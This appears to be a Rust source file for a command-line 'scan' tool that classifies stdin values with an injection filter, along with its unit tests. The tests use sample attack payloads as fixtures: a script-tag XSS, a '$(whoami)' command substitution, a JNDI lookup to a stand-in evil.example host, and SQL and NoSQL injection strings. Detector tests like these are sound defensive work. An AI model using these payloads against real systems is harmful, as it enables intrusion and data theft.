//! `portcullis scan`: the injection filter's verdict on values from standard input.

use super::input::{Line, read_line};
use super::options::{Options, asks_for_help};
use portcullis::injection::{self, Class, ClassSet, Finding};
use std::io::{self, BufRead, Write};

/// How the command is called.
pub const USAGE: &str = "usage: portcullis scan [--jsonl] [--explain] [--classes CLASS,...] < VALUES

Reads one value a line, or with --jsonl one object a line with \"id\" and \"payload\", and prints one line each:
the class of attack (sqli, xss, path, cmdi, other) or none. --explain adds the rule and its score. --classes looks for
these only (sqli, xss, path, command, template, nosql, ldap, xxe, ssrf, or all); without it for the first five. Lines of
more than 16 MiB, and those that are no such object, are said on the standard error and passed over; exits 2 when no
other line is there.";

/// Everything was scanned, or what could not be read was said.
const DONE: u8 = 0;
/// The command is wrong, or no line could be read.
const WRONG: u8 = 2;

/// Runs the command on `input` and returns the exit code; `args` are what follows `scan`. A line that is not of the form
/// asked for is said to `err`, and the others are scanned all the same.
///
/// # Errors
/// Those of `input` and of the writers.
pub fn run(args: &[String], mut input: impl BufRead, output: &mut dyn Write, err: &mut dyn Write) -> io::Result<u8> {
    if asks_for_help(args) {
        return writeln!(output, "{USAGE}").map(|()| DONE);
    }
    let order = match Order::parse(args) {
        Ok(order) => order,
        Err(problem) => return writeln!(err, "portcullis scan: {problem}\n\n{USAGE}").map(|()| WRONG),
    };
    let (mut scanned, mut unreadable, mut blank) = (0_u64, 0_u64, 0_u64);
    let mut line = Vec::new();
    while let Some(kind) = read_line(&mut input, &mut line, LONGEST_LINE)? {
        if order.jsonl && kind == Line::Whole && line.trim_ascii().is_empty() {
            blank += 1;
            continue;
        }
        let decision = match kind {
            Line::Whole => order.decide(&line).ok_or("not an object with \"id\" and \"payload\""),
            Line::TooLong => Err("longer than 16 MiB"),
        };
        match decision {
            Ok(decision) => {
                scanned += 1;
                writeln!(output, "{decision}")?;
            }
            Err(problem) => {
                unreadable += 1;
                writeln!(err, "line {}: {problem}", blank + scanned + unreadable)?;
            }
        }
    }
    if unreadable > 0 {
        writeln!(err, "lines not understood: {unreadable}")?;
    }
    Ok(if scanned == 0 && unreadable > 0 { WRONG } else { DONE })
}

/// Many times what the filter looks at of a request.
const LONGEST_LINE: usize = 16 << 20;

/// What the command line asks.
struct Order {
    jsonl: bool,
    explain: bool,
    classes: ClassSet,
}

impl Order {
    fn parse(args: &[String]) -> Result<Self, String> {
        let options = Options::parse(args, &["--classes"], &["--jsonl", "--explain"])?;
        if let Some(other) = options.rest.first() {
            return Err(format!("takes no {other}: it reads the standard input"));
        }
        let classes = match options.value("--classes") {
            Some(names) => named(names).ok_or("--classes needs names of classes")?,
            None => ClassSet::USUAL,
        };
        Ok(Self { jsonl: options.has("--jsonl"), explain: options.has("--explain"), classes })
    }

    /// What is printed for a line; `None`: it is not of the form asked for.
    fn decide(&self, line: &[u8]) -> Option<String> {
        if self.jsonl {
            let (id, payload) = labelled(line)?;
            let finding = injection::scan(payload.as_bytes(), self.classes);
            let mut decision = serde_json::json!({ "id": id, "class": corpus_name(finding.as_ref()) });
            if let (true, Some(finding), Some(members)) = (self.explain, finding, decision.as_object_mut()) {
                members.insert("rule".into(), finding.rule.into());
                members.insert("score".into(), finding.score.into());
            }
            return Some(decision.to_string());
        }
        let finding = injection::scan(line.strip_suffix(b"\r").unwrap_or(line), self.classes);
        let name = corpus_name(finding.as_ref());
        Some(match finding.filter(|_| self.explain) {
            Some(finding) => format!("{name}\t{}\t{}", finding.rule, finding.score),
            None => name.to_owned(),
        })
    }
}

/// The classes of a list of names; None when one is none.
fn named(names: &str) -> Option<ClassSet> {
    if names == "all" {
        return Some(ClassSet::ALL);
    }
    names.split(',').map(|name| Class::ALL.into_iter().find(|class| class.name() == name)).collect()
}

/// The id and the payload of a line of labelled values; the id may be a string or a number.
fn labelled(line: &[u8]) -> Option<(serde_json::Value, String)> {
    let mut entry: serde_json::Value = serde_json::from_slice(line).ok()?;
    let members = entry.as_object_mut()?;
    let id = members.remove("id")?;
    match members.remove("payload")? {
        serde_json::Value::String(payload) => Some((id, payload)),
        _ => None,
    }
}

/// The class as labelled collections of attacks name it.
fn corpus_name(finding: Option<&Finding>) -> &'static str {
    match finding.map(|finding| finding.class) {
        None => "none",
        Some(Class::Command) => "cmdi",
        Some(Class::Template) => "other",
        Some(class) => class.name(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Exit code, output and errors.
    fn said(args: &[&str], input: &str) -> (u8, String, String) {
        let args: Vec<String> = args.iter().map(|&arg| arg.to_owned()).collect();
        let (mut output, mut err) = (Vec::new(), Vec::new());
        let code = run(&args, input.as_bytes(), &mut output, &mut err).unwrap();
        (code, String::from_utf8(output).unwrap(), String::from_utf8(err).unwrap())
    }

    fn output_of(args: &[&str], input: &str) -> String {
        said(args, input).1
    }

    #[test]
    fn prints_a_class_for_every_line() {
        assert_eq!(output_of(&[], "hello\n<script>alert(7)</script>\r\n$(whoami)\n"), "none\nxss\ncmdi\n");
        assert_eq!(output_of(&["--explain"], "${jndi:ldap://evil.example/a}\n"), "other\ttemplate-lookup\t9\n");
    }

    #[test]
    fn looks_for_the_classes_that_are_asked_for() {
        let input = "user[$ne]\nhttp://127.0.0.1/\nx' or 'a'='a\n";
        assert_eq!(output_of(&[], input), "none\nnone\nsqli\n");
        assert_eq!(output_of(&["--classes", "nosql,ssrf"], input), "nosql\nssrf\nnone\n");
        assert_eq!(output_of(&["--classes", "all"], input), "nosql\nssrf\nsqli\n");
        let (code, output, err) = said(&["--classes", "nosqli"], input);
        assert!((code, output.as_str()) == (2, "") && err.contains("--classes needs names of classes\n"), "{err}");
    }

    #[test]
    fn keeps_the_id_of_every_labelled_payload() {
        let input = "{\"id\":\"a\",\"payload\":\"x' or 'a'='a\"}\n{\"id\":7,\"payload\":\"O'Brien\"}\n";
        assert_eq!(
            output_of(&["--jsonl"], input),
            "{\"class\":\"sqli\",\"id\":\"a\"}\n{\"class\":\"none\",\"id\":7}\n"
        );
    }

    #[test]
    fn passes_over_a_line_that_is_too_long_and_says_so() {
        for (option, good) in [("--explain", "hello"), ("--jsonl", r#"{"id":1,"payload":"hello"}"#)] {
            let long = "a".repeat(LONGEST_LINE + 1);
            let (code, output, err) = said(&[option], &format!("{good}\n{long}\n{good}"));
            assert_eq!((code, output.lines().count()), (0, 2), "{option}");
            assert_eq!(err, "line 2: longer than 16 MiB\nlines not understood: 1\n", "{option}");
            assert_eq!(said(&[option], &long).0, 2, "{option}");
        }
    }

    #[test]
    fn says_which_lines_it_cannot_read_and_scans_the_others() {
        let good = r#"{"id":"a","payload":"O'Brien"}"#;
        let wrong = |line: u8| format!("line {line}: not an object with \"id\" and \"payload\"\n");
        let (code, output, err) = said(&["--jsonl"], &format!("{{}}\n{good}\n\n<html>\n{good}\n"));
        assert_eq!((code, output.lines().count()), (0, 2));
        assert_eq!(err, format!("{}{}lines not understood: 2\n", wrong(1), wrong(4)));
        assert_eq!(said(&["--jsonl"], "{}\n"), (2, String::new(), format!("{}lines not understood: 1\n", wrong(1))));
        assert_eq!((said(&["--jsonl"], "").0, said(&["--what"], "").0, said(&["a"], "").0), (0, 2, 2));
    }
}
